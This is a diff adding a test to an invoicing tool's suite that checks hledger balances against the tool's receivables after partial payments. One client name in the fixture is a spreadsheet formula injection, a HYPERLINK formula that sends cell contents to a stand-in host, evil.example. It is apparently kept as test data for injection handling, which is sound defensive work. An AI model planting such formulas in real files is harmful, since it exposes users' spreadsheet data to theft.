@@ -31,6 +31,7 @@ from exports.ledger import (
     transactions,
 )
 from exports.tables import safe_cell
+from tests import keyring_service
 
 START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
 HLEDGER = shutil.which("hledger")
@@ -398,3 +399,49 @@ def test_the_export_command(desk, tmp_path) -> None:
     assert done.exit_code == 1 and "--table" in done.output
     done = runner.invoke(cli, ["--db", db, "export", "pdf", "-o", str(out)])
     assert done.exit_code == 2
+
+
+def test_hledger_balances_match_the_receivables(desk, cli, tmp_path) -> None:
+    """Partial payments, a credit note and a void: what `hledger bal` says each client
+    still owes is what `hourdesk receivables` says."""
+    if HLEDGER is None:
+        keyring_service.skip_or_fail("hledger is not installed (apt-get install hledger)")
+    db = desk.db.execute("PRAGMA database_list").fetchone()[2]
+    desk.close()
+    env = {"HOURDESK_NOW": "2026-03-20T12:00:00Z"}
+    for number, amount, method, day in [
+        ("2026-0001", "100.00", "bank", "2026-03-05"),
+        ("2026-0002", "50.00", "paypal", "2026-03-06"),
+        ("2026-0002", "60.00", "bank", "2026-03-09"),
+    ]:
+        paid = cli.run(
+            "--db", db, "pay", number, "--amount", amount, "--method", method, "--date", day,
+            env=env,
+        )  # fmt: skip
+        assert paid.returncode == 0, paid.stderr
+    path = tmp_path / "books.journal"
+    exported = cli.run("--db", db, "export", "ledger", "-o", path, env=env)
+    assert exported.returncode == 0, exported.stderr
+    owed = json.loads(cli.run("--db", db, "receivables", "--json", env=env).stdout)
+
+    assert hledger("-f", str(path), "check").returncode == 0
+    checked = hledger("-f", str(path), "check", "--strict")
+    assert checked.returncode == 0, checked.stderr
+    balances = hledger("-f", str(path), "bal", "--flat", "--no-total", "-O", "csv", "Receivable")
+    assert balances.returncode == 0, balances.stderr
+    books = {
+        account: Decimal(value.removeprefix("USD "))
+        for account, value in csv.reader(io.StringIO(balances.stdout))
+        if account.startswith("Assets:")
+    }
+    expected = {
+        f"Assets:Receivable:{account_part(c['name'])}": Decimal(c["total"]) for c in owed["clients"]
+    }
+    assert expected == {
+        "Assets:Receivable:Harbor Dental Clinic": Decimal("40.00"),
+        'Assets:Receivable:=HYPERLINK("http-//evil.example/?"&A1,"Click")': Decimal("140.00"),
+    }
+    assert {a: v for a, v in books.items() if v} == expected
+    assert sum(books.values()) == Decimal(owed["total"])
+    cash = hledger("-f", str(path), "bal", "--flat", "--no-total", "-O", "csv", "Bank|PayPal")
+    assert "USD 160.00" in cash.stdout and "USD 50.00" in cash.stdout
